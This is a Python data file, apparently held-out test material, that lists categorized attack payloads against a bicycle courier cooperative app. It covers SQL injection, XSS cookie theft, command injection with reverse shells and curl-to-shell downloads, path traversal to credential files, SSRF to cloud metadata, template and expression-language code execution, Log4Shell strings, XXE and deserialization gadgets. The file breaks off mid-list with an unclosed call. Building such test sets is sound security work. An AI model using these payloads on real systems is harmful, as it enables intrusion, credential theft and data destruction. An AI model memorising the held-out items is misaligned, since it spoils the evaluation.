#!/usr/bin/env python3
"""Attack held-out values for a bicycle courier cooperative app. Seed 32202."""
import json
import os
import random

SEED = 32202
rng = random.Random(SEED)

ATT = {}  # category -> list of (class, value, is_literal)


def L(cat, cls, *vals):
    ATT.setdefault(cat, [])
    for v in vals:
        ATT[cat].append((cls, v, True))


# ===================================================================== sqli
L("sqli", "union",
  "4471' UNION SELECT username,password_hash,NULL FROM riders-- ",
  "Harbour Print') union all select iban,sort_code,null,null from client_bank_details#",
  "0 UNION SELECT NULL,table_name,NULL FROM information_schema.tables WHERE table_schema=database()",
  "Canal St' uNiOn/**/sElEcT/**/email,api_token/**/fRoM/**/client_accounts--+-",
  "-1 union select 1,group_concat(column_name),3 from information_schema.columns where table_name='invoices'",
  "x' UNION SELECT pin_code, door_code, NULL FROM drop_addresses WHERE '1'='1",
  "9999 UnIoN(SeLeCt(1),(select string_agg(login||':'||pw,',') from dispatch_users),(3))",
  "Riverside Studio' UNION SELECT sql,2,3 FROM sqlite_master--",
  "1%27%20UNION%20SELECT%20null%2Cpassword%20FROM%20riders--%20",
  "ticket 4471') /*!50000UNION*/ /*!50000SELECT*/ user(),version(),@@datadir-- -",
)
L("sqli", "boolean",
  "O'Brien' OR '1'='1",
  "Mill Lane' AND 1=1 AND 'a'='a",
  "12B' OR 2>1-- ",
  "Priya' oR 'x' LIKE 'x",
  "4471 AND SUBSTRING((SELECT password FROM riders WHERE name='admin'),1,1)='a'",
  "Hartley & Sons' AND (SELECT COUNT(*) FROM client_accounts WHERE credit_limit>0)>0 AND 'z'='z",
  "zone N' || '1'='1",
  "' or true--",
  "admin'/**/OR/**/1/**/=/**/1#",
  "Ben' AND ASCII(SUBSTR((SELECT api_key FROM integrations LIMIT 1),3,1))>77-- -",
  "4471) OR (1=1",
  "rider=Kofi'%20OR%20'1'%3D'1",
  "x' AnD 0x61=0x61 -- ",
)
L("sqli", "time",
  "Gasworks Yard'; SELECT pg_sleep(7)--",
  "4471' AND SLEEP(6) AND 'q'='q",
  "1; WAITFOR DELAY '0:0:8'--",
  "Dock 2' AND (SELECT 7 FROM (SELECT(SLEEP(5)))abc)-- x",
  "Old Quay' || (SELECT CASE WHEN (1=1) THEN pg_sleep(4) ELSE pg_sleep(0) END)--",
  "ticket 8812 AND BENCHMARK(9000000,SHA1('spokes'))",
  "Linden Ave' AND IF(MID(@@version,1,1)='8',SLEEP(5),0)#",
  "1 AND 2=(SELECT 2 FROM PG_SLEEP(6))",
  "Pine Rd'+AND+randomblob(500000000)--",
  "N'; IF (SELECT COUNT(*) FROM invoices)>10 WAITFOR DELAY '00:00:06'--",
)
L("sqli", "error",
  "4471' AND extractvalue(1,concat(0x7e,(SELECT password FROM riders LIMIT 1)))-- -",
  "Market Sq' AND updatexml(null,concat(0x3a,database()),null)-- ",
  "1 AND 1=CONVERT(int,(SELECT TOP 1 iban FROM client_bank_details))",
  "x' AND 1=CAST((SELECT api_token FROM client_accounts LIMIT 1) AS int)--",
  "Elm Ct' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -",
  "7 AND exp(~(SELECT * FROM (SELECT user())a))",
  "1' AND GTID_SUBSET(CONCAT(0x7e,(SELECT email FROM dispatch_users LIMIT 1)),1)-- ",
)
L("sqli", "stacked",
  "Delivered 10:52'; DROP TABLE job_tickets;--",
  "Left with neighbour'); UPDATE riders SET role='admin' WHERE name='ben';--",
  "4471; INSERT INTO dispatch_users(login,pw,role) VALUES('ghost','x','admin')--",
  "Sam'; DELETE FROM invoices WHERE 1=1; --",
  "1; EXEC xp_cmdshell 'whoami > \\\\203.0.113.7\\loot\\w.txt'--",
  "note'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh';--",
  "x'; ALTER TABLE client_accounts ADD COLUMN pwned int;--",
  "Café Lune'; TRUNCATE incident_reports CASCADE; --",
  "2024-04-03'; CREATE USER hx WITH SUPERUSER PASSWORD 'hx';--",
  "final stop'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.y(z text); INSERT INTO x.y VALUES('<?php system($_GET[0]);?>');--",
)
L("sqli", "order-by",
  "price, (SELECT CASE WHEN (SELECT substr(pw,1,1) FROM riders LIMIT 1)='a' THEN price ELSE km END)",
  "date ASC, IF((SELECT COUNT(*) FROM dispatch_users)>3,km,rider)",
  "1,extractvalue(1,concat(0x7e,user()))",
  "km desc limit 1 procedure analyse(extractvalue(1,concat(0x3a,version())),1)",
  "(CASE WHEN (1=1) THEN job_id ELSE date END)--",
  "rider;SELECT pg_sleep(5)",
)
L("sqli", "filter-evasion",
  "Priya'/*!OR*/'8'='8",
  "4471'%0aunion%0aselect%0anull,pw%0afrom%0ariders%23",
  "Hill Rd'%09OR%09'a'%3D'a",
  "ticket'||(SELECT%20CHR(65)||CHR(66))||'",
  "x' oR 1 liKe 1 -- -",
  "Ｏ’ＯＲ １＝１－－ Ｏ'OR 1=1--",
  "4471'%2520OR%25201%253D1--",
  "'%bf%27 OR 1=1 -- ",
  "name=Chen'/**//*x*/UNION/**/ALL/**/SELECT/**/0x3a,CONCAT_WS(0x3a,login,pw)/**/FROM/**/dispatch_users-- ",
  "Mill Rd' AND 'a'=CHAR(97) OR 'b'='b",
  "Jonas'+oR+ascii(lower(substr(user,1,1)))>96--",
  "1 /*comment*/ UNION /*x*/ SELECT /*y*/ cardnumber,2 /*z*/ FROM payments",
)
L("sqli", "second-order",
  "Mrs O'Neill'); SELECT * FROM client_accounts WHERE ('1'='1",
  "Studio D'Arcy-Smith' OR account_id IN (SELECT account_id FROM client_accounts)--",
  "admin'-- (rider display name)",
  "Hartley'||(SELECT password FROM dispatch_users WHERE login='admin')||'",
  "Union Print' AND 1=(SELECT 1 FROM dual WHERE database() LIKE 'spok%')-- ",
  "ghost@attacker.example' OR 1=1 LIMIT 1 OFFSET 2-- ",
  "4471 OR 1=1",
  "-4471 OR job_id>0",
)

# ====================================================================== xss
L("xss", "script-tag",
  "Left with neighbour <script>fetch('https://attacker.example/c?'+document.cookie)</script>",
  "Signed by: <script src=//attacker.example/k.js></script>",
  "O'Brien's Bakery</title><script>new Image().src='//203.0.113.9/x?'+localStorage.token</script>",
  "<ScRiPt>alert(document.domain)</sCrIpT> ring twice",
  "Gate stiff <script>eval(atob('ZmV0Y2goIi8vYXR0YWNrZXIuZXhhbXBsZSIp'))</script>",
  "Route tip</textarea><script>location='//attacker.example/?'+escape(document.cookie)</script>",
  "<script type=\"text/javascript\">document.write('<img src=//attacker.example/'+document.cookie+'>')</script>",
  "drop @ 12B <scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script>/*signature pad*/top['al'+'ert'](1)</script>",
)
L("xss", "event-handler",
  "<img src=x onerror=fetch('//attacker.example/r',{method:'POST',body:document.cookie})>",
  "Photo at door: <img src=\"door.jpg\" onerror=\"this.src='//attacker.example/?c='+document.cookie\">",
  "<svg onload=alert`1`>",
  "<body onload=location.href='//attacker.example/'+document.cookie>",
  "Notes: <details open ontoggle=confirm(document.domain)>gate code</details>",
  "<input autofocus onfocus=alert(1) value='rider note'>",
  "<video><source onerror=\"javascript:alert(1)\"></video>",
  "Bike #7 <div onmouseover=\"fetch('//attacker.example/'+document.cookie)\">hover for frame crack photo</div>",
  "<marquee onstart=alert(origin)>urgent job</marquee>",
  "<audio src=1 onerror=import('//attacker.example/m.js')>",
  "Tyre pressure <select autofocus onfocus=alert(1)>",
  "<iMg SrC=1 OnErRoR=alert&#40;1&#41;>",
  "<img src=1 onerror\n=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<form><button formaction=javascript:alert(1)>confirm delivery</button></form>",
  "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
  "<style>@keyframes k{}</style><b style=\"animation-name:k\" onanimationstart=alert(1)>late</b>",
  "<table background=x onerror=alert(1)>",
  "<img src=x:x onerror=window['ev'+'al'](atob('YWxlcnQoMSk='))>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)
L("xss", "attribute-breakout",
  "Café Lune\" onmouseover=\"alert(document.cookie)",
  "Mill Lane' autofocus onfocus='fetch(`//attacker.example/${document.cookie}`)",
  "12\"><img src=x onerror=alert(1)>",
  "Hartley & Sons\"><svg/onload=alert(1)>",
  "x\" style=\"position:fixed;inset:0\" onmousemove=\"alert(1)",
  "blue bag' accesskey='x' onclick='alert(1)",
  "\"><iframe srcdoc=\"<script>parent.alert(1)</script>\">",
  "Ring twice\" /><script>alert(1)</script><input value=\"",
  "'-alert(1)-'",
  "\";alert(document.domain);//",
  "</script><script>alert(1)</script>",
  "Priya\\\";alert(1);//",
)
L("xss", "javascript-uri",
  "https://track.spokes-coop.example/j/4471\" onclick=\"alert(1)",
  "javascript:fetch('//attacker.example/'+document.cookie)",
  "JaVaScRiPt:alert(1)",
  "java&#x09;script:alert(1)",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
  "  javascript://route%0aalert(document.cookie)",
  "data:text/html,<script>alert(document.domain)</script>",
  "[map link](javascript:alert(document.cookie))",
  "[GPX file](javascript&#58;fetch('//attacker.example'))",
  "<a href=\"jav&#x61;script:alert(1)\">tracking</a>",
  "vbscript:msgbox(1)",
  "<a href=javascript&colon;alert&lpar;1&rpar;>POD</a>",
)
L("xss", "encoded",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E",
  "&lt;img src=x onerror=alert(1)&gt;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\\x3csvg onload=alert(1)\\x3e",
  "＜script＞alert(1)＜/script＞",
  "%u003Cscript%u003Ealert(1)%u003C/script%u003E",
  "&#x3C;svg/onload=alert(1)&#x3E;",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
)
L("xss", "dom-template",
  "{{constructor.constructor('alert(1)')()}}",
  "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>",
  "#<img src=x onerror=alert(1)>",
  "<x v-on:click=\"constructor.constructor('alert(1)')()\">route</x>",
  "<base href=\"//attacker.example/\">",
  "<meta http-equiv=\"refresh\" content=\"0;url=//attacker.example/login\">",
  "<link rel=import href=//attacker.example/x.html>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>click</text></a></svg>",
  "<iframe src=\"//attacker.example/phish\" style=\"position:fixed;top:0;left:0;width:100%;height:100%;border:0\"></iframe>",
  "<embed src=//attacker.example/x.swf allowscriptaccess=always>",
  "<isindex type=image src=1 onerror=alert(1)>",
  "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
  "<img src=\"x` `<script>alert(1)</script>\"` `>",
  "<svg><script>alert&#40;1&#41;</script></svg>",
  "<template><img src=x onerror=alert(1)></template><script>document.body.append(document.querySelector('template').content)</script>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
)

# ===================================================================== cmdi
L("cmdi", "separator",
  "north_loop_v2.gpx; curl -s http://attacker.example/s.sh | sh",
  "4471 && wget -qO- http://203.0.113.5/b | bash",
  "Harbour Print | nc 198.51.100.4 4444 -e /bin/sh",
  "invoice.pdf; cat /etc/passwd",
  "route.gpx;id",
  "photo.jpg || ping -c 5 203.0.113.22",
  "label.png; rm -rf /var/www/uploads/*",
  "export.csv\nwhoami",
  "export.csv\r\nuname -a",
  "POD_4471.pdf & type C:\\Windows\\win.ini",
  "scan.tif | powershell -nop -c \"iex(iwr http://attacker.example/a.ps1)\"",
  "receipt.pdf;{cat,/etc/shadow}",
  "Bike#7 ; nohup python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.40\",9001));[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn(\"sh\")' &",
  "4471%0aid",
  "4471%3Bcat%20/etc/hostname",
  "zone-N.csv; echo c3Bva2VzIDpQ|base64 -d>/tmp/p; sh /tmp/p",
  "tyres.csv | tee /var/www/html/s.php <<< '<?php system($_GET[c]); ?>'",
  "map.png; bash -i >& /dev/tcp/198.51.100.12/443 0>&1",
  "signed.pdf && curl -F f=@/etc/passwd http://attacker.example/u",
  "label; sleep 9 #",
  "backup.tar | mail -s loot ops@attacker.example < /app/.env",
)
L("cmdi", "substitution",
  "$(curl http://attacker.example/$(whoami))",
  "Canal St `id`",
  "rider_$(sleep 7).pdf",
  "Mill Rd $(cat /etc/passwd | base64 -w0 | xargs -I{} curl attacker.example/{})",
  "invoice_`uname -a`.pdf",
  "x$(nslookup $(hostname).attacker.example)",
  "gpx=`wget -O /tmp/r http://203.0.113.61/r;chmod +x /tmp/r;/tmp/r`",
  "route $(printf '\\x69\\x64')",
  "$(</etc/passwd)",
  "4471`ping -c3 198.51.100.30`",
  "${IFS}cat${IFS}/etc/passwd",
  "note.txt;cat$IFS/etc/shadow",
  "a;c\\at /et\\c/pas\\swd",
  "a;/???/c?t /???/p??s??",
  "x;$'\\x63\\x61\\x74' /etc/passwd",
  "photo.jpg;{echo,Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo}|{base64,-d}|bash",
  "pod.pdf;w'h'o'a'm'i",
  "pod.pdf;w\"h\"o\"am\"i",
  "x;X=/etc/pass;Y=wd;cat $X$Y",
  "gpx;$(rev<<<'di')",
  "y;${PATH:0:1}bin${PATH:0:1}sh -c id",
)
L("cmdi", "argument-injection",
  "--output=/var/www/html/shell.php http://attacker.example/s.txt",
  "-o /tmp/x -O http://attacker.example/payload",
  "route.gpx --checkpoint=1 --checkpoint-action=exec=sh /tmp/p.sh",
  "-oProxyCommand=curl${IFS}attacker.example/p|sh x",
  "--upload-pack='touch /tmp/pwn' origin",
  "-exec /bin/sh -c 'id' ;",
  "export.zip -TT 'sh -c id' -T",
  "--use-compress-program='nc 203.0.113.88 4444 -e sh'",
  "-X /var/www/html/x.php -OQueueDirectory=/tmp ops@spokes-coop.example",
  "'-e sh -c id' tracking.gif",
)
L("cmdi", "windows",
  "POD.pdf & powershell -enc SQBFAFgAKABpAHcAcgAgAGgAdAB0AHAAOgAvAC8AYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA==",
  "scan.tif | certutil -urlcache -split -f http://attacker.example/n.exe %TEMP%\\n.exe && %TEMP%\\n.exe",
  "label && net user courier P4ss! /add && net localgroup administrators courier /add",
  "4471 | cmd /c dir C:\\inetpub\\wwwroot",
  "x & bitsadmin /transfer j http://198.51.100.3/a.exe C:\\Users\\Public\\a.exe",
  "rota.xlsx & mshta http://attacker.example/h.hta",
  "pod.pdf ^& who^ami",
  "route.kml & rundll32.exe \\\\203.0.113.9\\share\\x.dll,Start",
  "x;%COMSPEC% /c set",
  "report.docx & reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
)
L("cmdi", "quote-breakout-converter",
  "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|curl \"attacker.example/p|sh)'\npop graphic-context",
  "photo.jpg\"|id > /tmp/o\"",
  "%!PS\nuserdict /setpagedevice undef\n{ null restore } stopped { } if\n(%pipe%curl attacker.example/g|sh) (w) file",
  "signature.svg\"; touch /tmp/x; \"",
  "'; id; echo '",
  "\"; nc -e /bin/bash 198.51.100.9 80; \"",
  "|| id ||",
  "a\"$(sleep 5)\"b",
  "door.png' || curl attacker.example/$(id -u) || '",
  "proof.heic`busybox nc 203.0.113.50 5555 -e ash`",
)

# ================================================================ traversal
L("traversal", "dotdot",
  "../../../../etc/passwd",
  "pods/../../../../../var/www/.env",
  "..\\..\\..\\..\\windows\\win.ini",
  "invoices/2024/../../../../../../proc/self/environ",
  "route_tips/../../config/database.yml",
  "../../../../../../home/dispatch/.ssh/id_rsa",
  "gpx/north_loop.gpx/../../../../etc/shadow",
  "/var/www/spokes/uploads/../../../../etc/hosts",
  "photos/4471/../../../app/settings.py",
  "....//....//....//....//etc/passwd",
  "..././..././..././etc/passwd",
  "..//..//..//..//etc//group",
  "exports\\..\\..\\..\\..\\inetpub\\wwwroot\\web.config",
  "../../../../../../../../../../../../etc/passwd%00.pdf",
  "../../../proc/self/cmdline",
  "signatures/../../../../../root/.bash_history",
  "..;/..;/..;/WEB-INF/web.xml",
  "rota/2024/..%00/..%00/etc/passwd",
  "POD_4471.pdf/../../../../../../var/log/nginx/access.log",
  "avatars/../../../../../../usr/local/etc/php/php.ini",
)
L("traversal", "encoded",
  "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
  "%2e%2e/%2e%2e/%2e%2e/%2e%2e/app/.env",
  "..%2f..%2f..%2f..%2fetc%2fshadow",
  "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
  "..%252f..%252f..%252fproc%252fself%252fenviron",
  "%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
  "..%c0%af..%c0%af..%c0%afetc/passwd",
  "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
  "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd",
  "..%5c..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
  "．．／．．／．．／etc／passwd",
  "%2e%2e%5c%2e%2e%5cboot.ini",
  "..%u2216..%u2216..%u2216web.config",
  "invoices%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
  "%%32%65%%32%65/%%32%65%%32%65/etc/passwd",
)
L("traversal", "absolute",
  "/etc/passwd",
  "file:///etc/passwd",
  "C:\\Windows\\System32\\config\\SAM",
  "/proc/self/fd/3",
  "\\\\203.0.113.17\\share\\pod.pdf",
  "/var/run/secrets/kubernetes.io/serviceaccount/token",
  "php://filter/convert.base64-encode/resource=../config.php",
  "/dev/tcp/198.51.100.2/80",
  "zip://uploads/route.zip%23../../shell.php",
  "/app/storage/../../../etc/ssl/private/server.key",
  "C:/inetpub/wwwroot/../../Windows/repair/sam",
)
L("traversal", "dotdot",
  "gpx/north_loop_v2.gpx%00../../../../etc/passwd",
)

# ===================================================================== ssrf
L("ssrf", "cloud-metadata",
  "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
  "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
  "http://metadata.google.internal/computeMetadata/v1/project/project-id",
  "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
  "http://[fd00:ec2::254]/latest/meta-data/",
  "http://169.254.170.2/v2/credentials",
  "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
  "http://169.254.169.254/openstack/latest/user_data",
)
L("ssrf", "loopback",
  "http://127.0.0.1:8080/admin/riders/export",
  "http://localhost:6379/",
  "http://localhost/server-status",
  "http://127.0.0.1:2375/containers/json",
  "http://[::1]:9200/_cat/indices",
  "http://0.0.0.0:5000/debug/console",
  "https://127.0.0.1:10250/pods",
  "http://localhost:15672/api/users",
)
L("ssrf", "alt-ip",
  "http://2130706433/admin",
  "http://0x7f000001:8500/v1/agent/self",
  "http://0177.0.0.1/",
  "http://127.1/internal/invoices",
  "http://0x7f.0x0.0x0.0x1/",
  "http://2852039166/latest/meta-data/",
  "http://[::ffff:127.0.0.1]:8080/",
  "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/",
  "http://0251.0376.0251.0376/latest/user-data",
  "http://①②⑦.⓪.⓪.①/admin",
  "http://127.000.000.001:9000/",
  "http://0/",
)
L("ssrf", "internal-service",
  "http://10.0.0.5:8080/actuator/env",
  "http://192.168.1.1/cgi-bin/luci",
  "http://172.17.0.1:2379/v2/keys/?recursive=true",
  "http://dispatch-db.internal:5432/",
  "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
  "http://consul.service.consul:8500/v1/kv/?recurse",
  "http://10.10.20.30:9090/api/v1/targets",
  "http://192.168.0.10/admin/backup.sql",
)
L("ssrf", "scheme-smuggling",
  "gopher://127.0.0.1:6379/_FLUSHALL%0D%0ASET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example/c|sh%5Cn%22%0D%0ACONFIG%20SET%20dir%20/etc/cron.d%0D%0ASAVE%0D%0A",
  "dict://127.0.0.1:11211/stats",
  "file:///proc/self/environ",
  "ftp://10.0.0.8/backups/",
  "ldap://127.0.0.1:389/%0astats",
  "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A",
  "tftp://198.51.100.6/boot.cfg",
  "jar:http://attacker.example/a.jar!/x",
  "netdoc:///etc/passwd",
)
L("ssrf", "parser-confusion",
  "http://attacker.example@127.0.0.1:8080/admin",
  "http://127.0.0.1#@track.spokes-coop.example/j/4471",
  "https://track.spokes-coop.example.attacker.example/redirect?to=http://169.254.169.254/",
  "http://attacker.example/302?url=http://localhost/admin",
  "http://127.0.0.1%2523@maps.example.org/",
)

# ===================================================================== code
L("code", "ssti",
  "Hi {{ ''.__class__.__mro__[1].__subclasses__() }}",
  "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
  "Dear {{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}",
  "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}",
  "{{ config.items() }}",
  "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('curl attacker.example') }}",
  "{{lipsum|attr('__globals__')|attr('__getitem__')('os')|attr('popen')('id')|attr('read')()}}",
  "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
  "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"whoami\")}",
  "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$r",
  "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
  "{{['id']|filter('system')}}",
  "<%= `cat /etc/passwd` %>",
  "<%= system('id') %>",
  "#{7*7}#{T(java.lang.Runtime).getRuntime().exec('id')}",
  "{php}echo `id`;{/php}",
  "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}",
  "{{= global.process.mainModule.require('child_process').execSync('id') }}",
  "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
  "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
  "Dear {{client_name}}, {{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
  "{% import os %}{{ os.popen('id').read() }}",
)
L("code", "expression-language",
  "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}",
  "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
  "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
  "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}",
  "#{request.getClass().getClassLoader()}",
  "${pageContext.request.getSession().setAttribute('role','admin')}",
  "%24%7BT(java.lang.System).getenv()%7D",
  "${facesContext.getExternalContext().getRequestMap()}",
  "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
)
L("code", "log4shell",
  "${jndi:ldap://attacker.example:1389/a}",
  "Rider Ben ${jndi:rmi://203.0.113.30/obj}",
  "${${lower:j}ndi:${lower:l}dap://x.attacker.example/e}",
  "${${::-j}${::-n}${::-d}${::-i}:${::-d}${::-n}${::-s}://d.attacker.example/q}",
  "${jndi:dns://198.51.100.77/${env:AWS_SECRET_ACCESS_KEY}}",
  "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}",
  "User-Agent note: ${jndi:ldaps://k.attacker.example/${sys:java.version}}",
  "${j${k8s:k5:-ND}i:ldap://attacker.example/p}",
)
L("code", "eval",
  "require('child_process').exec('curl attacker.example/x|sh')",
  "__import__('os').system('id')",
  "eval(compile('import os;os.system(\"id\")','x','exec'))",
  "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
  "'; system('id'); //",
  "\");exec(\"import os; os.system('nc 203.0.113.4 80 -e sh')\")#",
  "1;phpinfo();",
  "<?php echo shell_exec($_GET['c']); ?>",
  "<?=`$_POST[x]`?>",
  "Function('return this')().process.exit()",
  "[].constructor.constructor('return process.env')()",
  "';return this.constructor.constructor(\"return process\")().mainModule.require(\"child_process\").execSync(\"id\");//",
  "assert(base64_decode('c3lzdGVtKCJpZCIp'))",
  "${@print(md5(31337))}",
  "open('/etc/passwd').read()",
  "Runtime.getRuntime().exec(new String[]{\"sh\",\"-c\",\"id\"})",
)
L("code", "prototype-pollution",
  "{\"__proto__\":{\"isAdmin\":true}}",
  "{\"constructor\":{\"prototype\":{\"role\":\"dispatcher\"}}}",
  "settings[__proto__][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');s",
  "__proto__.polluted=1",
  "constructor[prototype][shell]=/proc/self/exe",
  "{\"rider\":\"Ben\",\"__proto__\":{\"NODE_OPTIONS\":\"--require /proc/self/environ\",\"env\":{\"x\":\"require('child_process').execSync('id')//\"}}}",
  "a[__proto__][sourceURL]=\\u000areturn process.mainModule.require(`child_process`).execSync(`id`)//",
)
L("code", "csv-formula",
  "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Open POD\")",
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C powershell -nop -w hidden -c iwr attacker.example/x'!A1",
  "-2+3+cmd|' /C notepad'!'B2'",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2),\"//a\")",
  "=WEBSERVICE(\"http://203.0.113.8/leak?\"&C2)",
  "Harbour Print\t=HYPERLINK(\"http://attacker.example\",\"click\")",
  "\"=DDE(\"\"cmd\"\";\"\"/C calc\"\";\"\"x\"\")\"",
  "=IMAGE(\"http://attacker.example/p.png?\"&ENCODEURL(D2))",
)
L("code", "xxe",
  "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><route>&x;</route>",
  "<!DOCTYPE gpx [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><gpx><trk>1</trk></gpx>",
  "<?xml version=\"1.0\"?><!DOCTYPE inv [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><invoice><note>&e;</note></invoice>",
  "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>",
  "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>",
  "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"php://filter/convert.base64-encode/resource=/var/www/.env\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&f;</text></svg>",
)
L("code", "deserialization",
  "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
  "a:1:{i:0;O:15:\"Monolog\\Handler\":1:{s:7:\"\\0*\\0exec\";s:2:\"id\";}}",
  "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA==",
  "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
  "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR.",
  "!!python/object/apply:os.system ['id']",
  "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/x\",\"autoCommit\":true}",
  "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}",
  "_$$ND_FUNC$$_function(){require('child_process').exec('id')}()",
  "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]",
)

# =================================================================== nosqli
L("nosqli", "operator",
  "{\"rider\": {\"$ne\": null}, \"pin\": {\"$ne\": \"\"}}",
  "{\"login\": \"dispatch\", \"password\": {\"$gt\": \"\"}}",
  "username[$ne]=x&password[$ne]=x",
  "{\"email\": {\"$regex\": \"^a.*@spokes\"}}",
  "{\"client\": {\"$in\": [\"Hartley & Sons\", {\"$gt\": \"\"}]}}",
  "password[$regex]=^p4",
  "{\"$or\": [{\"role\": \"admin\"}, {\"1\": {\"$exists\": false}}]}",
  "{\"job_id\": {\"$nin\": []}}",
  "{\"token\": {\"$exists\": true}}",
  "rider[$gt]=&zone[$ne]=Z",
  "{\"credit_limit\": {\"$gte\": 0}, \"$comment\": \"dump\"}",
  "{\"name\":{\"$regex\":\".*\",\"$options\":\"si\"}}",
)
L("nosqli", "js-injection",
  "{\"$where\": \"this.role == 'admin' || sleep(5000)\"}",
  "Ben'; return true; var x='",
  "'; while(true){}; '",
  "0;return this.password.match(/^a/)",
